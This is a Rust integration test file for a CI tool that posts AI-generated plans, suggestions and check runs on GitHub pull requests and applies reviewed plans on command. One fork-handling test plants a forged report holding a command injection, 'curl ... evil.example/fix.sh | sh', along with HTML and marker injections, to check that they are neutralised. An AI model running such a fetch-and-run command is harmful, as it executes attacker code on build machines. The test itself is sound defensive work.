//! What a pull request gets: the comment in all its lives, suggestions, a check run, a plan applied by comment.
#![cfg(unix)]

use std::io::Write as _;
use std::time::{Duration, Instant};

use crate::support::Run;
use crate::support::github::BOT;
use crate::support::model::{Answer, ModelServer};
use crate::support::scene::{HEAD, Scene, scene};
use serde_json::json;

const MARKER: &str = "<!-- architect-ci comment: architect-ci -->";

impl Scene {
    pub(crate) fn plan(&self, model: &str, more: &[&str]) -> Run {
        let event = self.pull_event(7, "dev");
        let args = [&["--model", model][..], more].concat();
        self.run("pull_request", &event, &args, &[])
    }

    /// Keeps the output folder of the last run as an artifact of it, as `actions/upload-artifact` does.
    pub(crate) fn upload(&self, name: &str) {
        let mut archive = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for file in ["report.json", "plan.json"] {
            archive.start_file(format!("out/{file}"), zip::write::SimpleFileOptions::default()).unwrap();
            archive.write_all(&std::fs::read(self.sandbox.out().join(file)).unwrap()).unwrap();
        }
        let bytes = archive.finish().unwrap().into_inner();
        let mut world = self.github.world();
        let id = 900 + world.artifacts.len() as u64;
        world.artifacts.insert(id, (name.to_owned(), 4711, bytes));
    }

    /// Waits until the job has sent a request that starts so.
    fn wait_for(&self, request: &str, job: &mut std::process::Child) {
        let deadline = Instant::now() + Duration::from_secs(20);
        while self.github.count(request) == 0 {
            assert!(Instant::now() < deadline && job.try_wait().unwrap().is_none(), "{request} was not sent");
            std::thread::sleep(Duration::from_millis(5));
        }
    }

    /// Answers to orders.
    pub(crate) fn answers(&self) -> Vec<String> {
        let all = self.github.comments_by(BOT).into_iter();
        all.filter(|body| body.starts_with("<!-- architect-ci comment: architect-ci orders -->")).collect()
    }

    pub(crate) fn sticky(&self) -> String {
        let all = self.github.comments_by(BOT);
        let own: Vec<&String> = all.iter().filter(|body| body.starts_with(MARKER)).collect();
        assert_eq!(own.len(), 1, "{own:?}");
        own[0].clone()
    }

    pub(crate) fn branch(&self, name: &str, path: &str) -> String {
        let world = self.github.world();
        String::from_utf8(world.repository.as_ref().unwrap().show(name, path).unwrap()).unwrap()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn progress_comment_updates_during_run() {
    let calls = vec![("read_file", json!({"path": "a.txt"}))];
    let model = ModelServer::start(vec![Answer::Calls(calls), Answer::Slow(Duration::from_secs(4), "Done.")]);
    scene(&[], move |scene| {
        let variables = [("OPENAI_API_KEY", "none")];
        let event = scene.pull_event(7, "dev");
        let args = ["--model", "openai::gpt-5", "--base-url", &model.url, "--task", "Look @octocat"];
        let run = scene.run("pull_request", &event, &args, &variables).expect_code(0);
        assert!(run.stderr.contains("comment: https://"), "{}", run.stderr);
        let world = scene.github.world();
        let at = |start: &str| -> Vec<Instant> {
            world.requests.iter().filter(|(_, name)| name.starts_with(start)).map(|(at, _)| *at).collect()
        };
        let (made, changed) =
            (at("POST /repos/octo/demo/issues/7/comments"), at("PATCH /repos/octo/demo/issues/comments/"));
        assert_eq!(made.len(), 1, "one while it works");
        assert!(!changed.is_empty(), "which is changed at the end");
        // Found once, and known from then on.
        assert_eq!(at("GET /repos/octo/demo/issues/7/comments").len(), 1);
        drop(world);
        assert!(scene.sticky().contains("### ✅ plan: no changes"), "{}", scene.sticky());
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn comment_is_recreated_once() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        // Made, and its answer lost: it is looked for before another is made.
        scene.github.lose_answer("POST /repos/octo/demo/issues/7/comments");
        scene.plan(&model, &[]).expect_code(0);
        let first = scene.sticky();
        // Deleted between finding and changing it.
        scene.github.fail("PATCH /repos/octo/demo/issues/comments/", 404, "Not Found");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("comment: https://"), "{}", run.stderr);
        scene.sticky();
        // Deleted by hand: it is made anew.
        scene.github.world().comments.clear();
        scene.plan(&model, &[]).expect_code(0);
        assert_eq!(scene.sticky().lines().nth(2), first.lines().nth(2));
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn comment_keys_separate_jobs() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        let event = scene.pull_event(7, "dev");
        let spawn = |key: &str| {
            let out = scene.sandbox.path().join(key);
            let args = ["--model", model.as_str(), "--comment-key", key];
            scene.job("pull_request", &event, &out, &args).env_remove("GITHUB_OUTPUT").spawn().unwrap()
        };
        for _ in 0..2 {
            let jobs = [spawn("docs"), spawn("tests")];
            for mut job in jobs {
                assert_eq!(job.wait().unwrap().code(), Some(0));
            }
        }
        let mut firsts: Vec<String> = scene
            .github
            .comments_by(BOT)
            .iter()
            .map(|body| body.lines().next().unwrap().to_owned())
            .collect();
        firsts.sort();
        assert_eq!(firsts, ["<!-- architect-ci comment: docs -->", "<!-- architect-ci comment: tests -->"]);
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn comment_of_previous_owner_is_minimized() {
    scene(&[], |scene| {
        let ids: Vec<u64> = {
            let mut world = scene.github.world();
            ["old-app[bot]", "dev", "stranger"]
                .map(|login| world.add_comment(7, login, &format!("{MARKER}\nfrom before")))
                .into()
        };
        let model = scene.edit("five", "FIVE");
        scene.plan(&model, &[]).expect_code(0);
        // A stranger's is nothing that was ours.
        let expected: Vec<String> = ids[..2].iter().map(|id| format!("IC_{id}")).collect();
        assert_eq!(scene.github.world().minimised, expected);
        scene.plan(&model, &[]).expect_code(0);
        assert_eq!(scene.github.world().minimised, expected, "once");
        scene.github.assert_valid();
    })
    .await;
}

const SUGGEST: &[(&str, &str)] =
    &[(".github/architect.yml", "github: { inline_suggestions: true, check_run: true }\n")];

#[tokio::test(flavor = "multi_thread")]
async fn suggestions_cover_planned_hunks_on_diff() {
    scene(SUGGEST, |scene| {
        // On lines of the diff (1 to 5), across them and beyond, and nowhere near.
        let edits = |new: &str| {
            vec![
                ("edit_file", json!({"path": "a.txt", "old_str": "one\n", "new_str": format!("{new}\n```\n@octocat\n")})),
                ("edit_file", json!({"path": "a.txt", "old_str": "four\nfive\n", "new_str": "45\n"})),
                ("edit_file", json!({"path": "a.txt", "old_str": "nine", "new_str": "NINE"})),
                ("write_file", json!({"path": "b.txt", "content": "new\n"})),
            ]
        };
        let model = scene.sandbox.script(&[edits("uno")], "done");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 2 new, 0 known, 0 resolved, 0 omitted"), "{}", run.stderr);
        {
            let world = scene.github.world();
            let found: Vec<(Option<u64>, u64)> =
                world.review_comments.values().map(|comment| (comment.start_line, comment.line)).collect();
            assert_eq!(found, [(None, 1), (Some(4), 5)]);
            let body = &world.review_comments.values().next().unwrap().body;
            assert!(body.contains("\n````suggestion\nuno\n```\n@octocat\n````\n"), "{body}");
            assert_eq!(world.reviews.len(), 1);
        }
        // The same plan again says nothing new; another one closes what it does not make.
        scene.plan(&model, &[]).expect_code(0);
        assert_eq!(scene.github.world().review_comments.len(), 2);
        let model = scene.sandbox.script(&[edits("eins")], "done");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 1 new, 1 known, 1 resolved, 0 omitted"), "{}", run.stderr);
        let resolved = scene.github.world().resolved.clone();
        assert_eq!(resolved.len(), 1);
        // One that a person has settled does not come back; one that is outdated does.
        {
            let mut world = scene.github.world();
            let ids: Vec<u64> = world.review_comments.keys().copied().collect();
            world.settled.push(format!("PRRT_{}", ids[2]));
            world.review_comments.get_mut(&ids[1]).unwrap().outdated = true;
        }
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 1 new, 1 known, 1 resolved, 0 omitted"), "{}", run.stderr);
        // What a plan makes again after one that did not is there again.
        let model = scene.sandbox.script(&[edits("uno")], "done");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 1 new, 1 known, 0 resolved, 0 omitted"), "{}", run.stderr);
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn suggestions_require_file_of_head() {
    scene(SUGGEST, |scene| {
        // The checkout differs from the head, as a merge commit may.
        scene.sandbox.write("a.txt", format!("zero\n{HEAD}"));
        let model = scene.edit("one", "uno");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 0 new"), "{}", run.stderr);
        scene.sandbox.write("a.txt", HEAD);
        // GitHub takes no review: one by one, those that it takes.
        scene.github.fail("POST /repos/octo/demo/pulls/7/reviews", 422, "Unprocessable Entity");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 1 new"), "{}", run.stderr);
        // Not more than thirty at once.
        let many: String = (0..40).map(|line| format!("line {line}\nkept {line}\n")).collect();
        scene.sandbox.write("many.txt", &many);
        let head = scene.sandbox.commit("many");
        let path = scene.github.world().repository.as_ref().unwrap().path();
        scene.sandbox.git(&["push", "--quiet", path.to_str().unwrap(), "feature"]);
        let scene = Scene { head, ..scene };
        let edits = (0..40)
            .map(|line| ("edit_file", json!({"path": "many.txt", "old_str": format!("line {line}\n"), "new_str": format!("LINE {line}\n")})));
        let model = scene.sandbox.script(&[edits.collect()], "done");
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("suggestions: 30 new, 0 known, 1 resolved, 10 omitted"), "{}", run.stderr);
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn check_run_has_conclusion_and_annotations() {
    const CONFIG: &[(&str, &str)] = &[
        (
            ".github/architect.yml",
            "github: { check_run: true }\nguardrails:\n  max_gate_rounds: 1\n  protected_files: [secret.txt]\n  quality_gates:\n\
             \x20   - name: lint\n      command: \"bash lint.sh\"\n    - { name: style, command: 'bash style.sh', required: false }\n",
        ),
        ("style.sh", "for i in $(seq 1 30); do echo \"a.txt:2: ugly $i\"; done; exit 1\n"),
        (
            "lint.sh",
            "grep -q FIVE a.txt || exit 0; for i in $(seq 1 70); do echo \"a.txt:$i:1: error: bad <b>line</b> ::error::x\"; done; exit 1\n",
        ),
    ];
    scene(CONFIG, |scene| {
        let calls = vec![
            ("write_file", json!({"path": "secret.txt", "content": "x"})),
            ("edit_file", json!({"path": "a.txt", "old_str": "five", "new_str": "FIVE"})),
        ];
        let model = scene.sandbox.script(&[calls], "done");
        let run = scene.plan(&model, &[]).expect_code(1);
        let world = scene.github.world();
        let check = &world.checks[0];
        assert_eq!(
            (check["name"].as_str(), check["head_sha"].as_str()),
            (Some("architect-ci"), Some(scene.head.as_str()))
        );
        assert_eq!(
            (check["status"].as_str(), check["conclusion"].as_str()),
            (Some("completed"), Some("failure"))
        );
        let annotations = check["output"]["annotations"].as_array().unwrap();
        // One of the guardrail, of the first gate the last lines, those of the second.
        assert_eq!(annotations.len(), 1 + 40 + 30);
        assert_eq!(annotations[0]["path"], "secret.txt");
        let last = annotations.last().unwrap();
        assert_eq!(
            (&last["path"], &last["start_line"], &last["annotation_level"]),
            (&json!("a.txt"), &json!(2), &json!("warning"))
        );
        assert_eq!(scene_count(&world.requests, "PATCH /repos/octo/demo/check-runs/1"), 1);
        // The runner is told of lines as well, ten of a kind at most.
        let errors: Vec<&str> = run.stderr.lines().filter(|line| line.starts_with("::error ")).collect();
        assert_eq!(errors.len(), 10);
        assert!(errors[1].starts_with("::error file=a.txt,line="), "{errors:?}");
        assert!(errors[1].ends_with("title=Gate lint::error: bad <b>line</b> ::error::x"), "{errors:?}");
        assert!(
            run.stderr.contains("::warning file=secret.txt,line=1,title=Guardrail stopped write_file::"),
            "{}",
            run.stderr
        );
        drop(world);
        scene.github.assert_valid();
    })
    .await;
}

fn scene_count(requests: &[(Instant, String)], start: &str) -> usize {
    requests.iter().filter(|(_, name)| name.starts_with(start)).count()
}

#[tokio::test(flavor = "multi_thread")]
async fn apply_comment_applies_reviewed_plan() {
    const CONFIG: &[(&str, &str)] = &[(
        ".github/architect.yml",
        // Runs deliver elsewhere; an order to apply means the pull request's own branch.
        "deliver: { to: pull-request, branch: elsewhere }\nguardrails:\n  quality_gates:\n    - { name: count, command: 'grep -c FIVE a.txt' }\n",
    )];
    scene(CONFIG, |scene| {
        let model = scene.edit("five", "FIVE");
        let run = scene.plan(&model, &[]).expect_code(0);
        let digest = run.report()["plan"]["digest"].as_str().unwrap().to_owned();
        scene.upload("architect-ci");
        let mark = format!("<!-- architect-ci plan: {digest} 4711 {} -->", scene.head);
        assert_eq!(scene.sticky().lines().nth(1), Some(mark.as_str()));
        let order = |body: &str, code: i32| {
            let (event, id) = scene.comment_event(7, "dev", body);
            let run = scene.run("issue_comment", &event, &[], &[("INPUT_TASK", "")]).expect_code(code);
            let world = scene.github.world();
            let reactions: Vec<String> = world
                .reactions
                .iter()
                .filter(|(of, _)| *of == id)
                .map(|(_, content)| content.clone())
                .collect();
            drop(world);
            (run, reactions)
        };
        // Another digest than the one that stands there.
        let (run, reactions) = order("/architect apply 0123456789", 6);
        assert!(
            run.stdout.contains("no comment now shows a plan with that digest; what is shown now is"),
            "{}",
            run.stdout
        );
        assert_eq!(reactions, ["eyes", "confused"]);
        // A permission is missing: the comment goes on to show the plan, for another try.
        let server = scene.github.world().repository.as_ref().unwrap().path();
        scene.github.forbid("POST /repos/octo/demo/git/");
        let hook = server.join("hooks/pre-receive");
        std::fs::write(&hook, "#!/bin/sh\nexit 1\n").unwrap();
        std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        let (run, reactions) = order("/architect apply", 4);
        assert!(run.stderr.contains("`permissions: contents: write`"), "{}", run.stderr);
        assert_eq!(reactions, ["eyes", "confused"]);
        assert_eq!(scene.sticky().lines().nth(1), Some(mark.as_str()));
        crate::support::github::GitHub::clone_open(&scene.github);
        scene.sandbox.git(&["checkout", "--quiet", "--force", "feature"]);
        // By its beginning.
        let (run, reactions) = order(&format!("/architect apply {}", &digest[..12]), 0);
        assert_eq!(reactions, ["eyes", "rocket"]);
        assert_eq!(scene.branch("feature", "a.txt"), HEAD.replace("five", "FIVE"));
        assert_eq!(run.report()["gates"][0]["passed"], true);
        assert_eq!(run.report()["mode"], "apply");
        assert!(scene.sticky().contains("**Delivered** as "), "{}", scene.sticky());
        // The comment shows no plan now.
        let (run, _) = order("/architect apply", 6);
        assert!(run.stdout.contains("no comment on this pull request shows a plan"), "{}", run.stdout);
        // All refusals are one comment, which says what was ordered, by whom, and is updated.
        let answers = scene.answers();
        assert_eq!(answers.len(), 1, "{answers:?}");
        assert!(
            answers[0].contains("> [`/architect apply`](") && answers[0].contains("by `dev`"),
            "{answers:?}"
        );
        assert!(answers[0].contains("The plan was not applied: no comment"), "{answers:?}");
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn apply_comment_refuses_mismatched_plan() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        let run = scene.plan(&model, &[]).expect_code(0);
        let order = |number: u64, sender: &str| {
            let (event, _) = scene.comment_event(number, sender, "/architect apply");
            scene.run("issue_comment", &event, &[], &[("INPUT_TASK", "")])
        };
        // No artifact, then one that holds something else under that name.
        let refused = order(7, "dev").expect_code(6);
        assert!(refused.stdout.contains("has no artifact with this plan"), "{}", refused.stdout);
        scene.github.world().artifacts.insert(899, ("architect-ci".to_owned(), 4711, Vec::new()));
        assert!(order(7, "dev").expect_code(6).stdout.contains("the artifacts of the run 4711 have expired"));
        scene.github.world().artifacts.clear();
        let plan = run.out.join("plan.json");
        let original = std::fs::read_to_string(&plan).unwrap();
        std::fs::create_dir_all(scene.sandbox.out()).unwrap();
        std::fs::write(&plan, original.replace("+FIVE", "+evil")).unwrap();
        scene.upload("architect-ci");
        assert!(order(7, "dev").expect_code(6).stdout.contains("has no artifact with this plan"));
        std::fs::write(&plan, &original).unwrap();
        scene.upload("architect-ci-again");
        // Somebody else, a fork, an issue.
        assert!(order(7, "reader").expect_code(0).stdout.contains("no write permission"));
        assert!(order(8, "dev").expect_code(6).stdout.contains("is from a fork"));
        assert!(order(9, "dev").expect_code(6).stdout.contains("no pull request to apply it to"));
        // A checkout of something else.
        scene.sandbox.git(&["checkout", "--quiet", "main"]);
        let refused = order(7, "dev").expect_code(6);
        assert!(refused.stdout.contains("`ref: refs/pull/7/head`"), "{}", refused.stdout);
        scene.sandbox.git(&["checkout", "--quiet", "feature"]);
        // A comment that looks like ours, by somebody else.
        let forged = scene.sticky().replace(&scene.head, &"0".repeat(40));
        scene.github.world().add_comment(7, "reader", &forged);
        // The head moves between our look and our commit.
        scene.github.move_on("GET /repos/octo/demo/actions/runs/", "feature");
        let refused = order(7, "dev").expect_code(1);
        assert!(refused.stderr.contains("feature has moved since the plan was made"), "{}", refused.stderr);
        scene.sandbox.git(&["checkout", "--quiet", "--force", "feature"]);
        // The head has moved.
        scene.github.world().repository.as_ref().unwrap().push("feature", &[("b.txt", "b\n")], "more");
        let refused = order(7, "dev").expect_code(6);
        // A plan could follow it, but not in this checkout.
        assert!(refused.stdout.contains("`ref: refs/pull/7/head`"), "{}", refused.stdout);
        assert_eq!(scene.branch("feature", "a.txt"), HEAD);
        assert_eq!(scene.github.count("POST /repos/octo/demo/git/"), 0);
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fork_gets_plan_without_privileges() {
    scene(&[], |scene| {
        scene.github.forbid("POST /repos/octo/demo/issues");
        let model = scene.edit("five", "FIVE");
        let event = scene.pull_event(8, "stranger");
        let run =
            scene.run("pull_request", &event, &["--model", &model, "--mode", "yolo"], &[]).expect_code(0);
        assert_eq!(run.report()["mode"], "dry-run");
        assert!(run.stderr.contains("on pull requests from forks, the token is read-only"), "{}", run.stderr);
        assert!(run.file("comment.md").starts_with(MARKER) && run.file("plan.patch").contains("+FIVE"));
        // A trusted job posts what the untrusted one has left. What that says of itself leads nowhere.
        let mut report = run.report();
        report["run_url"] = json!("https://evil.example/");
        report["plan"]["digest"] = json!("3f1c && curl -s https://evil.example/fix.sh | sh");
        report["message"] = json!("@octocat <img src=x> fixes #1\n<!-- architect-ci plan: x -->");
        let stolen = scene.sandbox.path().join("stolen.json");
        std::fs::write(&stolen, report.to_string()).unwrap();
        scene.github.world().people.clear();
        let scene = Scene { github: crate::support::github::GitHub::clone_open(&scene.github), ..scene };
        let workflow_run = scene.event(
            "workflow_run.completed",
            &[
                ("workflow_run.id", json!(77)),
                ("workflow_run.head_sha", json!(scene.head)),
                ("workflow_run.head_branch", json!("refs/pull/8/head")),
                ("workflow_run.head_repository", json!({"full_name": "stranger/demo"})),
            ],
        );
        let mut command = scene.sandbox.command(&["report", "post", stolen.to_str().unwrap()]);
        command.envs(scene.variables("workflow_run")).env("GITHUB_WORKSPACE", scene.sandbox.repo());
        command.env("GITHUB_EVENT_PATH", &workflow_run).env("GITHUB_SERVER_URL", "https://github.com");
        let output = command.output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
        let posted = scene.sticky();
        assert!(posted.contains("its claims are not verified"), "{posted}");
        assert!(posted.contains("/octo/demo/actions/runs/77)") && !posted.contains("evil"), "{posted}");
        assert!(
            posted.contains("`<img src=x>`")
                && posted.contains("`@octocat`")
                && !posted.contains("<!-- architect-ci plan"),
            "{posted}"
        );
        assert_eq!(scene.github.world().comments.values().next().unwrap().issue, 8);
        // A run whose commit is nobody's head any more is nobody's.
        let moved = scene.event(
            "workflow_run.completed",
            &[
                ("workflow_run.head_sha", json!("0".repeat(40))),
                ("workflow_run.head_branch", json!("refs/pull/8/head")),
                ("workflow_run.head_repository", json!({"full_name": "stranger/demo"})),
            ],
        );
        let output = command.env("GITHUB_EVENT_PATH", &moved).output().unwrap();
        assert_eq!(output.status.code(), Some(0));
        assert!(
            String::from_utf8_lossy(&output.stdout)
                .contains("the pull request is closed or has a newer commit")
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn required_results_fail_run() {
    scene(&[(".github/architect.yml", "github: { required: true, check_run: true }\n")], |scene| {
        let model = scene.edit("five", "FIVE");
        scene.github.forbid("POST /repos/octo/demo/check-runs");
        let run = scene.plan(&model, &[]).expect_code(4);
        assert!(
            run.stderr.contains("the token is not allowed to write a check run")
                && run.stderr.contains("`permissions: checks: write`"),
            "{}",
            run.stderr
        );
        assert_eq!(run.report()["exit_code"], 4);
        assert_eq!(scene.output("exit-code").as_deref(), Some("4"));
        // The comment came all the same, and tells of it.
        assert!(
            scene.sticky().contains("the token is not allowed to write a check run"),
            "{}",
            scene.sticky()
        );
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn files_are_written_before_github_is_called() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        scene.github.hang("GET /repos/octo/demo/issues/7/comments");
        let event = scene.pull_event(7, "dev");
        let (out, summary) = (scene.sandbox.out(), scene.sandbox.path().join("summary"));
        let mut command = scene.job("pull_request", &event, &out, &["--model", &model]);
        command.env("GITHUB_STEP_SUMMARY", &summary);
        let mut job = command.spawn().unwrap();
        scene.wait_for("GET /repos/octo/demo/issues/7/comments", &mut job);
        // Nobody knows how long that takes, nor whether the machine lives so long.
        job.kill().unwrap();
        job.wait().unwrap();
        for file in
            ["report.json", "report.md", "report.html", "comment.md", "junit.xml", "plan.json", "plan.patch"]
        {
            assert!(out.join(file).metadata().is_ok_and(|file| file.len() > 0), "{file}");
        }
        assert!(std::fs::read_to_string(&summary).unwrap().contains("plan: 1 file"));
        assert_eq!(scene.output("status").as_deref(), Some("success"));
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn sigterm_ends_wait_for_github() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        scene.github.hang("GET /repos/octo/demo/issues/7/comments");
        let event = scene.pull_event(7, "dev");
        let out = scene.sandbox.out();
        let mut command = scene.job("pull_request", &event, &out, &["--model", &model]);
        let mut job = command.stderr(std::process::Stdio::piped()).spawn().unwrap();
        scene.wait_for("GET /repos/octo/demo/issues/7/comments", &mut job);
        let signalled = Instant::now();
        let id = rustix::process::Pid::from_child(&job);
        rustix::process::kill_process(id, rustix::process::Signal::INT).unwrap();
        let ended = job.wait_with_output().unwrap();
        assert!(signalled.elapsed() < Duration::from_mins(1), "{:?}", signalled.elapsed());
        let log = String::from_utf8_lossy(&ended.stderr).into_owned();
        assert!(log.contains("GitHub did not answer in time; the comment is in "), "{log}");
        let report = std::fs::read_to_string(out.join("report.json")).unwrap();
        assert!(report.contains("GitHub did not answer in time"), "the files tell of it");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn github_uses_proxy() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        let event = scene.pull_event(7, "dev");
        // Nobody knows this host but the proxy.
        let proxy = scene.variables("x").into_iter().find(|(name, _)| name == "GITHUB_API_URL").unwrap().1;
        let variables = [
            ("GITHUB_API_URL", "http://github.invalid"),
            ("GITHUB_GRAPHQL_URL", "http://github.invalid/graphql"),
            ("HTTP_PROXY", proxy.as_str()),
            ("http_proxy", proxy.as_str()),
        ];
        let run = scene.run("pull_request", &event, &["--model", &model], &variables).expect_code(0);
        assert!(run.stderr.contains("comment: https://"), "{}", run.stderr);
        scene.sticky();
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn github_rate_limits_are_awaited_or_reported() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        let comments = "POST /repos/octo/demo/issues/7/comments";
        // In the middle of it: asked to wait a second, it waits.
        scene.github.fail_with(
            comments,
            403,
            "You have exceeded a secondary rate limit",
            &[("retry-after", "1")],
        );
        scene.github.fail_with("GET /repos/octo/demo/issues", 429, "Too many", &[("retry-after", "1")]);
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("comment: https://"), "{}", run.stderr);
        scene.sticky();
        // For an hour it does not.
        let reset =
            std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() + 3_600;
        let headers = [("x-ratelimit-remaining", "0"), ("x-ratelimit-reset", &reset.to_string())];
        scene.github.fail_with("GET /repos/octo/demo/issues", 403, "API rate limit exceeded", &headers);
        let run = scene.plan(&model, &[]).expect_code(0);
        assert!(run.stderr.contains("rate-limited by GitHub until 20"), "{}", run.stderr);
        // Other refusals are told as GitHub tells them.
        for (status, message) in [(410, "Issues are disabled"), (423, "Locked"), (422, "Validation Failed")] {
            scene.github.fail("PATCH /repos/octo/demo/issues/comments", status, message);
            scene.github.fail("PATCH /repos/octo/demo/issues/comments", status, message);
            scene.github.fail("PATCH /repos/octo/demo/issues/comments", status, message);
            let run = scene.plan(&model, &[]).expect_code(0);
            assert!(run.stderr.contains(message), "{}", run.stderr);
            scene.github.world().clear_faults();
        }
        // Three thousand comments are thirty pages.
        scene.github.world().comments.clear();
        scene.github.seed("somebody", "hello", 3_000);
        let before = scene.github.count("GET /repos/octo/demo/issues/7/comments");
        scene.plan(&model, &[]).expect_code(0);
        assert_eq!(scene.github.count("GET /repos/octo/demo/issues/7/comments") - before, 30);
        scene.sticky();
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn older_run_leaves_comment_of_newer_head() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        scene.plan(&model, &[]).expect_code(0);
        let mark = |run: u64, head: &str| format!("<!-- architect-ci run: {run} {head} -->");
        let newer = scene.sticky().replace(&mark(4711, &scene.head), &mark(4712, &"f".repeat(40)));
        assert_ne!(newer, scene.sticky());
        let id = {
            let mut world = scene.github.world();
            let (id, comment) = world.comments.iter_mut().next().unwrap();
            comment.body.clone_from(&newer);
            *id
        };
        let run = scene.plan(&model, &[]).expect_code(0);
        assert_eq!(scene.sticky(), newer);
        assert!(run.stderr.contains("a later run has written the comment"), "{}", run.stderr);
        // A run of the same commit, or a later one, has its say.
        for (run, head) in [(4712, scene.head.clone()), (4710, "f".repeat(40))] {
            let body = newer.replace(&mark(4712, &"f".repeat(40)), &mark(run, &head));
            scene.github.world().comments.get_mut(&id).unwrap().body = body;
            scene.plan(&model, &[]).expect_code(0);
            assert!(scene.sticky().contains(&mark(4711, &scene.head)), "{}", scene.sticky());
        }
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn apply_with_digest_finds_comment_of_any_key() {
    scene(&[], |scene| {
        let digest = |scene: &Scene, key: &str, model: &str| {
            let run = scene.plan(model, &["--comment-key", key]).expect_code(0);
            scene.upload(&format!("architect-ci-{key}"));
            run.report()["plan"]["digest"].as_str().unwrap().to_owned()
        };
        let docs = digest(&scene, "docs", &scene.edit("five", "FIVE"));
        let tests = digest(&scene, "tests", &scene.edit("six", "SIX"));
        // People can tell them apart, and copy the order.
        for (key, digest) in [("docs", &docs), ("tests", &tests)] {
            let all = scene.github.comments_by(BOT);
            let own =
                all.iter().find(|body| body.starts_with(&format!("<!-- architect-ci comment: {key} -->")));
            let own = own.expect("a comment of this key");
            assert!(own.contains(&format!("· {key}\n")), "{own}");
            assert!(own.contains(&format!("\n/architect apply {}\n", &digest[..8])), "{own}");
        }
        let order = |body: &str, code: i32| {
            let (event, _) = scene.comment_event(7, "dev", body);
            scene.run("issue_comment", &event, &[], &[("INPUT_TASK", "")]).expect_code(code)
        };
        // The listening workflow has a key of its own, whose comment shows no plan.
        let refused = order("/architect apply", 6);
        for digest in [&docs, &tests] {
            assert!(
                refused.stdout.contains(&format!("`/architect apply {}`", &digest[..8])),
                "{}",
                refused.stdout
            );
        }
        assert!(order("/architect apply 0123", 6).stdout.contains("at least 8 characters"));
        order(&format!("/architect apply {}", &tests[..8]), 0);
        assert_eq!(scene.branch("feature", "a.txt"), HEAD.replace("six", "SIX"));
        let all = scene.github.comments_by(BOT);
        let told = all.iter().find(|body| body.starts_with("<!-- architect-ci comment: tests -->")).unwrap();
        assert!(told.contains("**Delivered** as "), "{told}");
        scene.github.assert_valid();
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn failed_order_is_answered() {
    scene(&[], |scene| {
        let model = scene.edit("five", "FIVE");
        scene.plan(&model, &[]).expect_code(0);
        scene.upload("architect-ci");
        scene.github.forbid("GET /repos/octo/demo/actions/runs/");
        let (event, _) = scene.comment_event(7, "dev", "/architect apply");
        scene.run("issue_comment", &event, &[], &[("INPUT_TASK", "")]).expect_code(4);
        let answers = scene.answers();
        assert!(answers[0].contains("The command was not carried out: "), "{answers:?}");
        assert!(answers[0].contains("`permissions: actions: read`"), "{answers:?}");
        assert_eq!(scene.output("status").as_deref(), Some("failed"));
        assert_eq!(scene.output("exit-code").as_deref(), Some("4"));
        assert_eq!(scene.output("out-path").as_deref(), Some(""));
    })
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fork_without_key_is_told_what_forks_can_do() {
    scene(&[], |scene| {
        let event = scene.pull_event(8, "stranger");
        let summary = scene.sandbox.path().join("summary.md");
        let variables = [("GITHUB_STEP_SUMMARY", summary.to_str().unwrap()), ("ANTHROPIC_API_KEY", "")];
        let run = scene.run("pull_request", &event, &["--model", "anthropic::claude-sonnet-4-6"], &variables);
        let run = run.expect_code(4);
        assert!(
            run.stderr.contains("the pull request is from a fork, whose runs get no secrets"),
            "{}",
            run.stderr
        );
        let summary = std::fs::read_to_string(&summary).unwrap();
        assert!(summary.starts_with("### ❌ Not started") && summary.contains("fork-plan.yml"), "{summary}");
        assert_eq!(scene.output("status").as_deref(), Some("failed"));
    })
    .await;
}
